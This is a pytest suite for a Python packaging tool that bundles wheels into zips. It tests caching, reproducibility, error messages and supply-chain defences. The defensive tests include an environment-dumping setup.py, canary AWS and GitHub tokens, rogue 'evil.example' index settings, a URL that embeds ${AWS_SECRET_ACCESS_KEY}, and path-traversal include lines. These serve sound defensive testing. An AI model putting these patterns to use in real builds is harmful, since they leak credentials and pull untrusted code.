"""What is installed, reused and refused; wheels come from a folder unless a test says registry."""

from __future__ import annotations

import json
import os
import shutil
import zipfile
from typing import TYPE_CHECKING

import pytest

from stacks.errors import PackagingError
from stacks.packaging import Artifact, Bundle, PythonTarget, host_target, package
from stacks.packaging.building import building, indexes, installing
from stacks.packaging.locks import export
from stacks.packaging.requirements import read_requirements

if TYPE_CHECKING:
    from pathlib import Path

    from conftest import Project  # type: ignore[import-not-found]


def _names(artifact: Artifact) -> list[str]:
    with zipfile.ZipFile(artifact.path) as zipped:
        return zipped.namelist()


def _installs(project: Project) -> int:
    return sum("installing" in message for message in project.messages)


@pytest.fixture
def tiny(project: Project) -> Project:
    """The project, requiring the tiny wheel ``tiny`` 1.0."""
    project.wheel("tiny", "1.0", {"tiny/__init__.py": "y = 1\n", "tiny/ca.pem": "public"})
    project.require("tiny")
    return project


def test_packages_are_in_the_zip_with_metadata_and_without_traces_of_this_machine(tiny: Project) -> None:
    assert tiny.names() == [
        "app.py",
        "tiny-1.0.dist-info/METADATA",
        "tiny-1.0.dist-info/entry_points.txt",
        "tiny/__init__.py",
        "tiny/ca.pem",
    ]


def test_an_artifact_shows_the_zip_as_it_is(tiny: Project) -> None:
    result = tiny.package()
    with zipfile.ZipFile(result.path) as zipped:
        unzipped = sum(info.file_size for info in zipped.infolist())
    assert (result.key, result.path, result.size, result.unzipped) == (
        f"code/web/{result.sha256}.zip",
        tiny.root / ".build" / result.key,
        result.path.stat().st_size,
        unzipped,
    )


def test_unchanged_inputs_install_and_write_nothing(tiny: Project) -> None:
    first = tiny.package()
    tiny.messages.clear()
    assert (tiny.package(), tiny.messages) == (first, [])


def test_two_machines_make_the_same_zip(tiny: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = tiny.package()
    moved = tiny.root.rename(tmp_path / "elsewhere")
    shutil.rmtree(moved / ".build")
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "cold"))
    before = os.umask(0o077)
    try:
        tiny.root = moved
        assert tiny.package().key == first.key
    finally:
        os.umask(before)


def test_changed_source_gives_another_zip_without_another_install(tiny: Project) -> None:
    first = tiny.package()
    tiny.write("src/app.py", "x = 2\n")
    assert tiny.package().key != first.key
    assert _installs(tiny) == 1


def test_changed_requirements_are_installed(tiny: Project) -> None:
    tiny.package()
    tiny.wheel("other", "1.0", {"other.py": ""})
    tiny.require("tiny", "other")
    assert "other.py" in _names(tiny.package())


def test_a_wheel_that_changed_under_the_same_name_is_installed(project: Project) -> None:
    project.wheel("tiny", "1.0", {"tiny.py": "a = 1\n"})
    project.require(f"{project.wheels}/tiny-1.0-py3-none-any.whl")
    first = project.package()
    project.wheel("tiny", "1.0", {"tiny.py": "a = 2\n"})
    assert project.package().key != first.key


def test_a_file_that_the_requirements_include_counts(tiny: Project) -> None:
    tiny.wheel("other", "1.0", {"other.py": ""})
    tiny.write("src/requirements.txt", f"--no-index\n--find-links {tiny.wheels}\n-r more.in\n")
    tiny.write("src/more.in", "tiny\n")
    tiny.package()
    tiny.write("src/more.in", "other\n")
    assert "other.py" in _names(tiny.package())


def test_a_zip_that_was_deleted_is_created_again(tiny: Project) -> None:
    first = tiny.package()
    first.path.unlink()
    assert tiny.package() == first
    assert first.path.is_file()


def test_a_zip_that_was_damaged_is_created_again(tiny: Project) -> None:
    first = tiny.package()
    content = first.path.read_bytes()
    first.path.write_bytes(b"damage")
    tiny.package()
    assert first.path.read_bytes() == content


@pytest.mark.parametrize("notes", ["", "{", "[]", '{"sha256": 1}'])
def test_damaged_notes_about_inputs_are_not_trusted(tiny: Project, notes: str) -> None:
    first = tiny.package()
    next((tiny.cache / "inputs").iterdir()).write_text(notes)
    assert tiny.package() == first


def test_a_failed_install_leaves_nothing_behind(tiny: Project) -> None:
    tiny.require("tiny", "missing")
    with pytest.raises(PackagingError):
        tiny.package()
    assert [path for path in tiny.cache.rglob("*") if path.is_file()] == []


def test_bundles_with_the_same_requirements_share_the_install(tiny: Project) -> None:
    tiny.write("other/app.py", "z = 1\n")
    bundles = [Bundle(name=name, source=name, requirements="src/requirements.txt") for name in ("src", "other")]
    artifacts = package(bundles, root=tiny.root, out=tiny.root / ".build", say=tiny.messages.append)
    assert [artifact.bundle for artifact in artifacts] == ["src", "other"]
    assert _installs(tiny) == 1


def test_each_target_has_its_own_install(tiny: Project) -> None:
    tiny.package()
    tiny.package(target=host_target())
    tiny.package(architecture="x86_64")
    assert _installs(tiny) == 3


def test_wheels_are_chosen_for_the_target_and_not_for_this_machine(project: Project) -> None:
    for machine in ("aarch64", "x86_64"):
        tag = f"cp314-cp314-manylinux_2_28_{machine}"
        project.wheel("native", "1.0", {f"native.{machine}.so": ""}, tag=tag)
    project.require("native")
    assert [name for name in _names(project.package()) if name.endswith(".so")] == ["native.aarch64.so"]
    project.require("native", "# again")
    names = _names(project.package(architecture="x86_64"))
    assert [name for name in names if name.endswith(".so")] == ["native.x86_64.so"]


def test_a_file_of_the_bundle_takes_the_place_of_an_installed_one_and_that_is_reported(tiny: Project) -> None:
    tiny.write("src/tiny/__init__.py", "y = 2\n")
    with zipfile.ZipFile(tiny.package().path) as zipped:
        assert zipped.read("tiny/__init__.py") == b"y = 2\n"
    assert "web: its own files take the place of installed ones: tiny/__init__.py" in tiny.messages


def test_requirements_without_any_requirement_install_nothing(project: Project) -> None:
    project.require("# nothing yet")
    project.package()
    assert _installs(project) == 0


def test_every_bundles_problem_is_reported_at_once(tiny: Project) -> None:
    bundles = [Bundle(name=name, source=name) for name in ("one", "two", "src")]
    with pytest.raises(PackagingError) as caught:
        package(bundles, root=tiny.root, out=tiny.root / ".build", say=tiny.messages.append)
    assert [problem.where for problem in caught.value.problems] == ["one", "two"]


def test_a_folder_that_cannot_be_written_is_reported_by_name(project: Project) -> None:
    project.write(".build", "a file is in the way")
    with pytest.raises(PackagingError, match=r"^web: .*\.build/.* cannot be read or written: Not a directory\. "):
        project.package()


def test_a_missing_requirements_file_is_reported_by_name(project: Project) -> None:
    bundle = Bundle(name="web", source="src", requirements="src/needs.txt")
    with pytest.raises(PackagingError, match=r"^src/needs.txt: the requirements file does not exist\. "):
        package([bundle], root=project.root, out=project.root / ".build", say=project.messages.append)


def test_a_missing_included_file_is_reported_by_name(project: Project) -> None:
    project.require("-r more.in")
    with pytest.raises(PackagingError, match=r"^src/requirements.txt: more.in: the requirements file does not exist\."):
        project.package()


def test_a_package_that_does_not_exist_is_reported_by_name(tiny: Project) -> None:
    tiny.require("tiny", "no-such-thing")
    with pytest.raises(PackagingError, match=r"^src/requirements.txt: Because no-such-thing was not found"):
        tiny.package()


def test_requirements_that_contradict_are_reported_by_name(tiny: Project) -> None:
    tiny.require("tiny==1.0", "tiny==2.0")
    with pytest.raises(PackagingError, match=r"^src/requirements.txt: Because .*tiny==1.0"):
        tiny.package()


def test_a_line_that_is_no_requirement_is_reported(tiny: Project) -> None:
    tiny.require("tiny one ==")
    with pytest.raises(PackagingError, match=r"^src/requirements.txt: Couldn't parse requirement"):
        tiny.package()


def test_an_index_out_of_reach_is_reported_with_the_package(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UV_HTTP_RETRIES", "0")
    project.write("src/requirements.txt", "--index-url http://user:secret@127.0.0.1:9/simple\nnot-cached-thing\n")
    with pytest.raises(
        PackagingError, match=r"^src/requirements.txt: not-cached-thing cannot be fetched: 127"
    ) as caught:
        project.package()
    assert "secret" not in str(caught.value)


def test_being_offline_is_reported_with_the_package(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UV_OFFLINE", "1")
    monkeypatch.setenv("UV_CACHE_DIR", str(project.root / "empty"))
    project.write("src/requirements.txt", "flask\n")
    with pytest.raises(PackagingError, match=r"^src/requirements.txt: flask cannot be fetched: the package index is"):
        project.package()


def test_a_wheel_for_another_platform_only_is_reported_by_name(project: Project) -> None:
    project.wheel("native", "1.0", {"native.so": ""}, tag="cp314-cp314-win_amd64")
    project.require("native")
    with pytest.raises(PackagingError, match=r"native has no wheel for Python 3.14 on aarch64-manylinux_2_34, only"):
        project.package()


def test_a_package_published_as_source_only_is_built_from_the_registry(project: Project) -> None:
    project.write("src/requirements.txt", "docopt==0.6.2\n--no-binary docopt\n")
    assert {"docopt.py", "docopt-0.6.2.dist-info/METADATA"} <= set(_names(project.package()))


def test_a_source_package_that_builds_native_code_is_refused(project: Project, tmp_path: Path) -> None:
    _source_package(project, tmp_path, "from setuptools import setup\nsetup(name='nat', version='1', py_modules=['n'],")
    with pytest.raises(PackagingError, match=r"nat has no wheel for Python 3.14 on aarch64-manylinux_2_34, and"):
        project.package()


@pytest.mark.parametrize(
    ("asked", "fix"),
    [
        ("psycopg2==2.9.11", "Ask for psycopg2-binary"),
        ("mysqlclient==2.2.7", "Ask for pymysql"),
        ("uwsgi", "Leave it out"),
    ],
)
def test_a_known_native_package_is_reported_unbuilt_with_what_to_take_instead_from_the_registry(
    project: Project, asked: str, fix: str
) -> None:
    project.write("src/requirements.txt", f"{asked}\n")
    with pytest.raises(PackagingError, match=rf"{asked.partition('=')[0]}\S* has no wheel for Python 3.14 .*\. {fix}"):
        project.package()
    assert not any("building it" in line for line in project.messages)


def _source_package(project: Project, tmp_path: Path, start: str, options: str = "--no-binary nat\n") -> None:
    """A source package ``nat`` whose plain-looking wheel carries a shared library."""
    import io  # noqa: PLC0415
    import tarfile  # noqa: PLC0415

    files = {
        "nat-1/setup.py": f"{start} data_files=[('lib', ['n.so'])])\n",
        "nat-1/n.py": "",
        "nat-1/n.so": "",
        "nat-1/PKG-INFO": "Metadata-Version: 2.1\nName: nat\nVersion: 1\n",
    }
    with tarfile.open(tmp_path / "nat-1.tar.gz", "w:gz") as packed:
        for name, text in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(text)
            packed.addfile(info, io.BytesIO(text.encode()))
    project.write("src/requirements.txt", f"{tmp_path}/nat-1.tar.gz\n{options}")


def test_flask_alone_is_enough_for_a_wsgi_application_for_arm64_from_the_registry(project: Project) -> None:
    project.write("src/requirements.txt", "flask\n")
    names = _names(project.package(application="wsgi"))
    libraries = [name for name in names if name.endswith(".so")]
    assert {"flask/__init__.py", "serverless_wsgi.py", "stacks_web.py"} <= set(names)
    assert libraries == ["markupsafe/_speedups.cpython-314-aarch64-linux-gnu.so"]


def test_serverless_wsgi_of_the_requirements_is_the_one_installed(project: Project) -> None:
    project.wheel("serverless_wsgi", "9.9", {"serverless_wsgi.py": ""})
    project.require("Serverless_WSGI")
    assert "serverless_wsgi-9.9.dist-info/METADATA" in _names(project.package(application="wsgi"))


def test_notes_about_inputs_hold_nothing_but_the_result(tiny: Project) -> None:
    result = tiny.package()
    notes = json.loads(next((tiny.cache / "inputs").iterdir()).read_text())
    date = result.path.stat().st_mtime_ns
    assert notes == {"sha256": result.sha256, "unzipped": result.unzipped, "size": result.size, "date": date}


_SPY = """
import json, os, pathlib
from setuptools import setup
pathlib.Path({seen!r}).write_text(json.dumps(dict(os.environ)))
setup(name='nat', version='1', py_modules=['n'],"""


@pytest.mark.parametrize("target", [None, host_target()])
def test_nothing_is_built_from_source_unasked(project: Project, tmp_path: Path, target: PythonTarget | None) -> None:
    seen = tmp_path / "seen"
    _source_package(project, tmp_path, _SPY.format(seen=str(seen)), options="")
    with pytest.raises(PackagingError, match=r"nat has no wheel for .*If you trust it, name it: '--no-binary nat'"):
        project.package(target=target)
    assert not seen.exists()


@pytest.mark.parametrize("setting", ["--no-binary nat", "--no-binary=Nat", "pyproject.toml", "uv.toml"])
def test_what_is_built_sees_no_credentials(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, setting: str
) -> None:
    seen = tmp_path / "seen"
    project.write("src/pyproject.toml", '[tool.uv]\nno-binary-package = ["nat"]\n' if "pyproject" in setting else "")
    project.write("src/uv.toml", 'no-binary-package = ["nat"]\n' if setting == "uv.toml" else "")
    _source_package(project, tmp_path, _SPY.format(seen=str(seen)), options=setting if setting[0] == "-" else "")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary-in-the-mine")
    monkeypatch.setenv("GITHUB_TOKEN", "canary-in-the-mine")
    with pytest.raises(PackagingError):  # it makes native code
        project.package()
    variables = json.loads(seen.read_text())
    assert "canary" not in seen.read_text()
    assert variables["HOME"] != os.environ["HOME"]


def test_passwords_of_indexes_are_no_variables_of_a_build() -> None:
    index = "https://user:canary@index.example/simple"
    variables = {
        "UV_INDEX_URL": index,
        "UV_EXTRA_INDEX_URL": index,
        "https_proxy": "http://a:canary@proxy",
        "PATH": "/bin",
    }
    no_compilers = dict.fromkeys(("CC", "CXX", "FC", "RUSTC", "CARGO"), "false")
    assert building(variables, "/home") == {
        **no_compilers,
        "PATH": "/bin",
        "HOME": "/home",
        "TMPDIR": "/home",
        "UV_CACHE_DIR": "/home/cache",
    }
    assert list(indexes(variables)) == ["--default-index", index, "--index", index]


@pytest.mark.parametrize(
    ("option", "message"),
    [
        ("--extra-index-url https://user:secret@evil.example/simple", "takes packages from a second index, where any"),
        ("--trusted-host evil.example", "takes packages without checking who sends them, from evil.example"),
        ("--find-links https://evil.example/links", "takes packages from https://evil.example/links"),
        ("-i https://evil.example/simple", "takes packages from the index https://evil.example/simple"),
    ],
)
def test_options_that_bring_packages_from_elsewhere_are_reported(project: Project, option: str, message: str) -> None:
    file = project.write("src/requirements.txt", f"{option}\n")
    read = read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=True)
    assert read
    assert any(message in notice and notice.startswith("requirements.txt ") for notice in read.notices)
    assert "secret" not in "".join(read.notices)


@pytest.mark.parametrize(
    ("file", "text", "message"),
    [
        ("uv.toml", 'index-url = "https://evil.example/s"', "takes packages from the index https://evil.example/s"),
        ("uv.toml", 'extra-index-url = ["https://a:b@evil.example/s"]', "from a second index, where anyone may have"),
        (
            "uv.toml",
            '[[index]]\nurl = "https://evil.example/s"',
            "takes packages from the index https://evil.example/s",
        ),
        ("uv.toml", 'find-links = ["https://evil.example"]', "takes packages from https://evil.example"),
        ("uv.toml", 'allow-insecure-host = ["evil.example"]', "without checking who sends them, from evil.example"),
        (
            "uv.toml",
            '[pip]\nindex-url = "https://evil.example/s"',
            "takes packages from the index https://evil.example",
        ),
        (
            "pyproject.toml",
            '[[tool.uv.index]]\nurl = "https://evil.example/s"',
            "from the index https://evil.example/s",
        ),
        ("pyproject.toml", "[tool]\nuv = 3", ""),
    ],
)
def test_settings_that_bring_packages_from_elsewhere_are_reported(
    project: Project, file: str, text: str, message: str
) -> None:
    project.write(f"src/{file}", text)
    requirements = project.write("src/requirements.txt", "flask\n")
    read = read_requirements(requirements, root=project.root, where="src/requirements.txt", wsgi=True)
    assert read
    assert [message in notice and notice.startswith(f"{file} ") for notice in read.notices] == [True] * bool(message)
    assert "a:b" not in "".join(read.notices)


ADDRESS = "https://evil.example/${AWS_SECRET_ACCESS_KEY}/x"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("requirements.txt", f"--index-url {ADDRESS}"),
        ("requirements.txt", f"--extra-index-url={ADDRESS}"),
        ("requirements.txt", f"--find-links {ADDRESS}"),
        ("requirements.txt", f"x @ {ADDRESS}"),
        ("requirements.txt", f"x @ git+{ADDRESS}"),
        ("requirements.txt", "-c more.txt"),
        ("requirements.txt", "-r ${AWS_SECRET_ACCESS_KEY}"),
        ("pyproject.toml", f"[project]\ndependencies = ['x @ {ADDRESS}']"),
        ("pyproject.toml", f"[project]\noptional-dependencies.dev = ['x @ {ADDRESS}']"),
        ("pyproject.toml", f"[dependency-groups]\ndev = ['x @ {ADDRESS}']"),
        ("uv.lock", f"[[package]]\nsource = {{ url = '{ADDRESS}' }}"),
    ],
)
def test_no_variable_of_this_machine_becomes_part_of_an_address(project: Project, name: str, text: str) -> None:
    project.write("src/more.txt", f"x @ {ADDRESS}\n")
    file = project.write(f"src/{name}", text)
    with pytest.raises(PackagingError, match="would send the variable AWS_SECRET_ACCESS_KEY of this machine"):
        read_requirements(file, root=project.root, where=f"src/{name}", wsgi=True)


def test_uv_gets_no_credentials_but_those_of_indexes() -> None:
    kept = {"HOME": "/h", "UV_INDEX_MINE_PASSWORD": "x", "HTTPS_PROXY": "http://a:b@p", "PATH": "/bin"}
    others = {"AWS_SECRET_ACCESS_KEY": "x", "GITHUB_TOKEN": "x", "UV_PUBLISH_TOKEN": "x", "LD_PRELOAD": "x"}
    assert installing(kept | others) == kept
    assert installing(others | {"UV_KEYRING_PROVIDER": "subprocess"}) == others | {"UV_KEYRING_PROVIDER": "subprocess"}


@pytest.mark.parametrize(
    "line",
    [
        "-r ../../outside.txt",
        "-c ../../outside.txt",
        "-r link.txt",
        "-r {top}/outside.txt",
        "../../lib",
        "-e ../../lib",
    ],
)
def test_files_outside_of_the_project_are_not_read(project: Project, line: str) -> None:
    top = project.root.parent
    (top / "outside.txt").write_text("precious\n")
    (top / "lib").mkdir()
    (top / "lib/lib.py").touch()
    (project.root / "src").mkdir(exist_ok=True)
    (project.root / "src/link.txt").symlink_to(top / "outside.txt")
    file = project.write("src/requirements.txt", line.format(top=top) + "\n")
    with pytest.raises(PackagingError, match="leads out of the project") as caught:
        read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=True)
    assert "precious" not in str(caught.value)
    (top / ".git").mkdir()
    assert read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=True)


def test_files_that_include_one_another_are_read_once(project: Project) -> None:
    project.write("src/more.txt", "-r requirements.txt\n-c ../src/more.txt\nflask\n")
    file = project.write("src/requirements.txt", "-r more.txt\n-r ../src/requirements.txt\n")
    read = read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=False)
    assert read
    assert {path.resolve().name for path in read.read} == {"requirements.txt", "more.txt"}
    for number in range(101):
        project.write(f"src/r{number}.txt", f"-r r{number + 1}.txt\n")
    file.write_text("-r r0.txt\n")
    with pytest.raises(PackagingError, match="includes more than 100 files"):
        read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=False)


def test_missing_hashes_are_reported_and_given_ones_required(tiny: Project) -> None:
    tiny.package()
    assert any("src/requirements.txt pins no hashes" in line for line in tiny.messages)
    tiny.require("tiny==1.0 --hash=sha256:" + "0" * 64)
    with pytest.raises(PackagingError, match=r"[Hh]ash"):
        tiny.package()


def test_a_project_file_that_is_no_toml_is_refused(project: Project) -> None:
    project.write("src/poetry.lock", "")
    file, src = project.write("src/pyproject.toml", "[project"), project.root / "src"
    with pytest.raises(PackagingError, match=r"^src/pyproject\.toml: is not TOML: .*\. Correct it\.$"):
        read_requirements(file, root=project.root, where="src/pyproject.toml", wsgi=False)
    with pytest.raises(PackagingError, match=r"^pyproject\.toml: is not TOML: .*\. Correct it\.$"):
        export(src / "poetry.lock", project.root / "out.txt", where="src/poetry.lock", project=src)


def test_requirements_that_are_no_text_are_refused(project: Project) -> None:
    file = project.write("src/requirements.txt")
    file.write_bytes(b"\xff\xfe")
    message = r"^src/requirements\.txt: the requirements file is not text\. Save it as UTF-8\.$"
    with pytest.raises(PackagingError, match=message):
        read_requirements(file, root=project.root, where="src/requirements.txt", wsgi=False)


def test_plugins_of_poetry_are_refused(project: Project) -> None:
    project.write("src/poetry.lock", "")
    project.write("src/pyproject.toml", '[tool.poetry]\nname = "x"\n[tool.poetry.requires-plugins]\nevil = "1"\n')
    src = project.root / "src"
    with pytest.raises(PackagingError, match="asks for plugins of Poetry, which would run on this machine"):
        export(src / "poetry.lock", project.root / "out.txt", where="src/poetry.lock", project=src)


@pytest.mark.parametrize(
    "line",
    [
        "flask==1.1.4",
        "Flask~=1.1",
        "werkzeug==1.0.1",
        "Werkzeug<2",
        "flask>=1.0,<2.0",
        "flask <= 1.1.2",
        "werkzeug<2.0 ; x",
        "flask==1",
        "flask<1.2",
        "flask==1.*",
        "flask===0.12",
        "flask (>=1,<2)",
        "flask\n-c limits.txt",
    ],
)
def test_old_flask_is_reported_before_anything_is_installed(project: Project, line: str) -> None:
    project.write("src/limits.txt", "werkzeug==1.0.1\n")
    project.require(line)
    with pytest.raises(PackagingError, match="Werkzeug 2 and newer") as caught:
        project.package(application="wsgi")
    assert "Ask for 'flask>=2.3'" in str(caught.value)
    assert project.messages == []


@pytest.mark.parametrize(
    "line",
    ["flask>=1.0", "flask", "flask==2.0.1", "flask<3", "werkzeug<2.1", "flask-login==0.6", "flask>=2,<4", "flask!=1.0"],
)
def test_newer_flask_is_not(project: Project, line: str) -> None:
    file = project.write("src/requirements.txt", f"{line}\n")
    assert read_requirements(file, root=project.root, where="r", wsgi=True)
